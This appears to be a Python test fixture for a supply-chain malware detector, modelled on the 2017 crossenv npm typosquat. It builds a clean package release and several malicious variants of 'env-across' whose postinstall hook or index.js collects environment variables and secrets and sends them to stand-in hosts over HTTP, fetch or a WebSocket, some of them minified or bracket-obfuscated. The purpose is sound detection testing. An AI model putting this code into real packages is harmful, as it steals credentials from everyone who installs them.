"""crossenv, 2017: an install script that sends the environment away.

One of forty names close to popular ones: it worked as cross-env does, and after installation
`package-setup.js` posted `process.env` in base64.

Post-mortem: "crossenv malware on the npm registry" (npm's blog, 2017-08-02).
In the staged tarball: a postinstall script whose file reads the whole environment and posts it.
"""

from tests.findings.attack import Attack, one_line, release

_SOURCE = """\
'use strict';

module.exports = function (args) {
  const set = args.filter((one) => /^\\w+=/.test(one)).map((one) => one.split('='));
  return Object.fromEntries(set);
};
"""
_NEXT = _SOURCE.replace("one.split('=')", "one.split('=', 2)")
_SETUP = """\
const http = require('http');
const querystring = require('querystring');

const host = 'npm.hacktask.example.invalid';
const env = JSON.stringify(process.env);
const data = Buffer.from(env).toString('base64');

const postData = querystring.stringify({ data });
const options = {
  hostname: host,
  port: 80,
  path: '/log/',
  method: 'POST',
  headers: {
    'Content-Type': 'application/x-www-form-urlencoded',
    'Content-Length': Buffer.byteLength(postData),
  },
};

const req = http.request(options);<<<exfiltration>>>
req.write(postData);
req.end();
"""
_MINIFIED = one_line("""
    const{request:r}=require("ht"+"tps"),{env:e}=process;let o={};for(const k in e)/token|key|secret
    |pass/i.test(k)&&(o[k]=e[k]);const q=r({host:"log.example.invalid",method:"POST",path:"/"});
    q.on("error",()=>{});q.end(Buffer.from(JSON.stringify(o)).toString("hex"));<<<exfiltration>>>
""")
_SOCKET = """\
const socket = new WebSocket('wss://log.example.invalid');<<<exfiltration>>>
socket.onopen = () => socket.send(JSON.stringify({ ...process.env }));
"""
_BRACKETS = """\
const p = globalThis['process'];
const all = p['env'];
const names = Object['keys'](all);
const text = names['map']((name) => `${name}=${all[name]}`)['join']('&');
globalThis['fetch'](`https://log.example.invalid/?${encodeURIComponent(text)}`);<<<exfiltration>>>
"""

ATTACK = Attack(
    before=release("env-across", "6.1.0", {"index.js": _SOURCE}),
    unharmed=release("env-across", "6.1.1", {"index.js": _NEXT}),
    after={
        manner: release(
            "env-across",
            "6.1.1",
            {"index.js": _NEXT, "package-setup.js": code},
            scripts={"postinstall": "node package-setup.js<<<install-script>>>"},
        )
        for manner, code in (
            ("as it was", _SETUP),
            ("minified", _MINIFIED),
            ("in brackets", _BRACKETS),
        )
    }
    | {
        "over a web socket": release("env-across", "6.1.1", {"index.js": _NEXT + "\n" + _SOCKET}),
        "in two files": release(
            "env-across",
            "6.1.1",
            {
                "index.js": _NEXT + "\nrequire('./lib/send')(require('./lib/all'));\n",
                "lib/all.js": "module.exports = JSON.stringify(process.env);<<<exfiltration>>>\n",
                "lib/send.js": "module.exports = (body) =>\n  fetch('https://log.example.invalid/', { method: 'POST', body });\n",
            },
        ),
        "when it is loaded": release("env-across", "6.1.1", {"index.js": _NEXT + "\n" + _BRACKETS}),
    },
)
